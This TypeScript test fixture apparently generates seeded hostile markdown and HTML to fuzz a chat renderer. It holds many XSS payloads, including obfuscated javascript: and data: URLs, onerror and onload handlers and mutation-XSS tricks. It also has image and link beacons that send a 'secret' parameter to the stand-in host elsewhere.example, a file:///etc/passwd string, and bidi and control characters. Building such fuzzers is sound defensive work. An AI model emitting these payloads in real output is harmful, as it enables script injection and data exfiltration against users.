import { Random } from "../../chaos/random.ts";

/** What a model may write when somebody who means harm has told it what to write. */
export interface HostileDocument {
  kind: string;
  text: string;
}

/** Where nothing may ever go. Also the only hosts that a document names. */
export const ELSEWHERE = "elsewhere.example";
const FAR = `https://${ELSEWHERE}/?secret=`;
/** The page counts how often it is called. */
const RUN = "attacked()";

type Kind = (random: Random, variant: number) => string;

const pick = <T>(random: Random, list: readonly T[]): T => list[random.between(0, list.length - 1)] as T;
const some = (random: Random, count: number, make: () => string, between = "\n\n") =>
  Array.from({ length: random.between(1, count) }, make).join(between);

const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java&Tab;script:${RUN}`,
  `java&#10;script:${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A;avascript&colon;${RUN}`,
  `\u0001javascript:${RUN}`,
  `%6aavascript:${RUN}`,
  `javascript\\:${RUN}`,
  `javascript://${ELSEWHERE}/%0a${RUN}`,
  `\\javascript:${RUN}`,
  `vbscript:${RUN}`,
  `VBScript&#58;${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  "data:text/html;base64,PHNjcmlwdD5hdHRhY2tlZCgpPC9zY3JpcHQ+",
  `data:image/svg+xml,<svg onload="${RUN}"/>`,
  "file:///etc/passwd",
  `blob:https://${ELSEWHERE}/1`,
  `filesystem:https://${ELSEWHERE}/1`,
  `view-source:https://${ELSEWHERE}/`,
  `intent://${ELSEWHERE}#Intent;end`,
  `ftp://${ELSEWHERE}/`,
  `feed:javascript:${RUN}`,
  `//${ELSEWHERE}/`,
  `/\\${ELSEWHERE}/`,
  `\\\\${ELSEWHERE}\\`,
  `https:${ELSEWHERE}`,
  `https://user:pass@${ELSEWHERE}/`,
  "streamdown:incomplete-link",
  "/api/chats/1",
  "#top",
  "",
  " ",
];

const HTML = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=${FAR}1></SCRIPT>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="${FAR}2">`,
  `<img srcset="${FAR}3 1x, ${FAR}4 2x">`,
  `<svg onload="${RUN}"><script>${RUN}</script><image href="${FAR}5"/></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<math><mtext><style><img src onerror=${RUN}></style></mtext></math>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<object data="${FAR}6"></object><embed src="${FAR}7">`,
  `<link rel="stylesheet" href="${FAR}8"><link rel="prefetch" href="${FAR}9">`,
  `<style>@import "${FAR}10"; * { background: url(${FAR}11) }</style>`,
  `<div style="background: url(${FAR}12)">x</div>`,
  `<base href="${FAR}13"><meta http-equiv="refresh" content="0;url=${FAR}14">`,
  `<form action="javascript:${RUN}"><button autofocus onfocus="${RUN}">x</button></form>`,
  `<input autofocus onfocus="${RUN}"><details open ontoggle="${RUN}"><summary>x</summary></details>`,
  `<video poster="${FAR}15"><source onerror="${RUN}"></video><audio src="${FAR}16" onerror="${RUN}">`,
  `<body onload="${RUN}" background="${FAR}17"><table background="${FAR}18"><tr><td>x</table>`,
  `<a href="javascript:${RUN}" ping="${FAR}19">x</a>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<?xml-stylesheet href="${FAR}20"?>`,
  `<template><img src="${FAR}21"></template><slot onslotchange="${RUN}"></slot>`,
  `<Widget src="${FAR}22" onload={${RUN}} />`,
  `<Constructor><__proto__ /></Constructor>`,
  `<x-a onclick="${RUN}">{@html "<img src=x onerror=${RUN}>"}</x-a>`,
  `<plaintext><xmp><img src=x onerror=${RUN}>`,
];

const SIDEWAYS = ["\u202e", "\u202d", "\u2066", "\u2067", "\u2069", "\u200f", "\u200b", "\u00ad", "\ufeff", "\u061c"];
const CONTROLS = [
  "\u0000",
  "\u0001",
  "\u0008",
  "\u001b[31m",
  "\u007f",
  "\ud800",
  "\udfff",
  "\ufffe",
  "\u2028",
  "\u0085",
];

const address = (random: Random) => pick(random, ADDRESSES);
const link = (random: Random) => {
  const to = address(random);
  return pick(random, [
    `[press](${to})`,
    `[press](<${to}>)`,
    `[press](${to} "a title")`,
    `[press](${to} '" onmouseover="${RUN}')`,
    `<${to}>`,
    to,
    `[press][l]\n\n[l]: ${to}`,
    `[l]\n\n[l]: <${to}> "title"`,
    `[**bold** \`code\` [inner](${to})](${to})`,
    `[press](${to}`,
  ]);
};
const image = (random: Random) => {
  const to = pick(random, [
    `${FAR}i`,
    `//${ELSEWHERE}/i`,
    `/\\${ELSEWHERE}/i`,
    `http://${ELSEWHERE}/i`,
    address(random),
  ]);
  return pick(random, [
    `![seen](${to})`,
    `![seen](<${to}>)`,
    `![seen](${to} "title")`,
    `![seen][i]\n\n[i]: ${to}`,
    `![i][]\n\n[i]: ${to}`,
    `![i]\n\n[i]: <${to}> 'title'`,
    `[![seen](${to})](${to})`,
    `| a |\n| - |\n| ![seen](${to}) |`,
    `> - ![seen](${to})`,
    `# ![seen](${to})`,
    `A note.[^n]\n\n[^n]: ![seen](${to})`,
    `![a ![seen](${to})](${to})`,
    `![seen](${to}`,
    `![](${to}){width=100}`,
  ]);
};
const raw = (random: Random) => pick(random, HTML);
const fence = (random: Random) =>
  `${pick(random, ["```", "````", "~~~", "  ```", "> ```", "- ```"])}${pick(random, [
    "js",
    "html",
    "mermaid",
    `js" onload="${RUN}`,
    "<img src=x onerror=attacked()>",
    "constructor",
    "__proto__",
    "../../etc/passwd",
    "x".repeat(2000),
  ])}\n${raw(random)}\ngraph TD; A["${raw(random)}"] --> B; click A "javascript:${RUN}"\n`;
const math = (random: Random) =>
  pick(random, [
    `$\\href{javascript:${RUN}}{x}$`,
    `$$\\includegraphics{${FAR}m}$$`,
    `$$\\htmlData{x=${RUN}}{y}$$`,
    `\\(\\def\\x{\\x\\x}\\x\\)`,
    `$${"{".repeat(500)}$`,
    `$$\n\\begin{matrix}${"a&".repeat(300)}\n`,
    `$5 and $10 and $`,
  ]);
const entity = (random: Random) =>
  pick(random, [
    "&lt;script&gt;attacked()&lt;/script&gt;",
    "&#0;",
    "&#x110000;",
    "&#xD800;",
    "&notanentity;",
    "&amp".repeat(50),
    "&#60;img src=x onerror=attacked()&#62;",
  ]);
const odd = (random: Random) =>
  pick(random, [
    "[!constructor]",
    "> [!__proto__]\n> x",
    "[^__proto__]",
    "[constructor]",
    "[toString]: x\n\n[toString]",
    ":::center\nx",
    "term\n: detail\n: detail",
    "| a |\n|---|\n| ^^ |\n| < |",
    "H~2~O and x^2^^^",
    "{{ x }}",
    "{@html x}",
    "%{x}",
  ]);

const FRAGMENTS = [link, image, raw, fence, math, entity, odd];
const fragment = (random: Random) => pick(random, FRAGMENTS)(random);
/** How deep, how long: small ones too, for mistakes at the edge. */
const size = (variant: number) => [3, 20, 100, 400, 1500, 6000][variant % 6] ?? 3;

const MEGABYTE = 2 ** 20;
const LONG = [
  "x",
  "x ",
  "*",
  "_a",
  "`",
  "[",
  "![",
  "](",
  "<",
  "<a ",
  "&",
  "$",
  "|",
  "\\",
  "~",
  "^",
  "> ",
  "- ",
  "#",
  "🧶",
  "\u202e",
  "[^1]",
  "http://a.b/",
  "a@b.c ",
  "**a",
  "1. ",
];

const KINDS: Record<string, Kind> = {
  links: (random) => some(random, 20, () => link(random)),
  images: (random) => some(random, 20, () => image(random)),
  html: (random) => some(random, 12, () => raw(random)),
  "html in words": (random) => `Words ${some(random, 6, () => raw(random), " and ")} words`,
  "unclosed fences": (random) => some(random, 6, () => fence(random)),
  "nested lists": (_random, variant) =>
    Array.from(
      { length: Math.min(size(variant), 400) },
      (_, depth) => `${"  ".repeat(depth)}${variant % 2 ? "-" : "1."} ${depth}`,
    ).join("\n"),
  "lists in one line": (random, variant) => `${pick(random, ["- ", "1. ", "* "]).repeat(size(variant))}x`,
  "nested quotes": (random, variant) => `${pick(random, [">", "> "]).repeat(size(variant))}${raw(random)}\nlazy`,
  "quotes and lists": (random, variant) => `${"> - ".repeat(size(variant))}${image(random)}`,
  "giant tables": (random, variant) => {
    const columns = pick(random, [1, 5, 40, 200]);
    const row = (cell: string) => `|${` ${cell} |`.repeat(columns)}\n`;
    return (
      row("a") +
      row(pick(random, ["-", ":-:", "--"])) +
      row(pick(random, ["1", "`|`", image(random), "<br>"])).repeat(Math.min(size(variant), Math.ceil(6000 / columns)))
    );
  },
  "ragged tables": (random) =>
    some(random, 60, () => "|".repeat(random.between(0, 30)) + pick(random, ["-", ":", " a ", "\\|", "^^", "<"]), "\n"),
  footnotes: (random, variant) => {
    const count = Math.min(size(variant), 400);
    return Array.from(
      { length: count },
      (_, n) => `Note[^${n}]\n\n[^${n}]: ${n % 5 ? `see [^${(n + 1) % count}]` : fragment(random)}\n`,
    ).join("\n");
  },
  brackets: (random, variant) =>
    pick(random, ["[", "![", "](", "[](", "((", "<", "[[]", "[a](b "]).repeat(size(variant)),
  emphasis: (random, variant) =>
    pick(random, ["*a ", "**a", "_a_b", "***", "~~a ", "*a **b ", "`a", "a*", "==", "^a", "~a"]).repeat(size(variant)),
  "nested emphasis": (random, variant) => {
    const [open, close] = pick(random, [
      ["**a *b ", " b* a**"],
      ["~~", "~~"],
      ["<A>", "</A>"],
      ["[a ", `](${FAR}l)`],
      ["^a~", "~a^"],
      ["<b>", "</b>"],
    ] as const);
    return open.repeat(size(variant)) + close.repeat(size(variant));
  },
  code: (random, variant) =>
    `\`\`\`${pick(random, ["js", "html", "python", "json"])}\n${pick(random, [raw(random), "const a = [1, 2];", "((((", "/*"]).repeat(size(variant))}\n`,
  "long lines": (_random, variant) => {
    const what = LONG[variant % LONG.length] as string;
    return what.repeat(Math.ceil(MEGABYTE / what.length));
  },
  "long documents": (random, variant) =>
    `${pick(random, ["word ".repeat(40), fragment(random), "# h", "- a", "| a | b |\n|---|---|\n| 1 | 2 |"])}\n\n`.repeat(
      size(variant) / 3,
    ),
  sideways: (random) =>
    some(random, 30, () => pick(random, SIDEWAYS) + pick(random, ["text", "exe.gpj", link(random), "`code`"]), ""),
  controls: (random) =>
    some(random, 30, () => pick(random, CONTROLS) + pick(random, ["text", link(random), raw(random), "```"]), ""),
  math: (random) => some(random, 12, () => math(random)),
  entities: (random) => some(random, 20, () => entity(random), " "),
  odd: (random) => some(random, 20, () => odd(random)),
  autolinks: (random) =>
    some(
      random,
      30,
      () =>
        pick(random, [
          `<${address(random)}>`,
          `www.${ELSEWHERE}/"onclick=${RUN}`,
          `https://${ELSEWHERE}/<b>`,
          `mailto:a@${ELSEWHERE}?body=x`,
          `a@${ELSEWHERE}`,
          `<a@${ELSEWHERE}>`,
          `http://[::1`,
          "http://%",
          `https://${ELSEWHERE}/${")".repeat(200)}`,
        ]),
      " ",
    ),
  mixtures: (random) => some(random, 30, () => fragment(random), pick(random, ["\n\n", "\n", " ", "\n> ", "\n- "])),
  shreds: (random) => {
    const whole = some(random, 10, () => fragment(random), "\n");
    return random.shuffled(whole.match(/[\s\S]{1,7}/g) ?? []).join("");
  },
};

/** The same ones for the same seed, as many of each kind as of any other. */
export function hostileDocuments(seed: number, count: number): HostileDocument[] {
  const random = new Random(seed);
  const kinds = Object.entries(KINDS);
  return Array.from({ length: count }, (_, index) => {
    const [kind, make] = kinds[index % kinds.length] as [string, Kind];
    return { kind, text: make(random, Math.floor(index / kinds.length)) };
  });
}
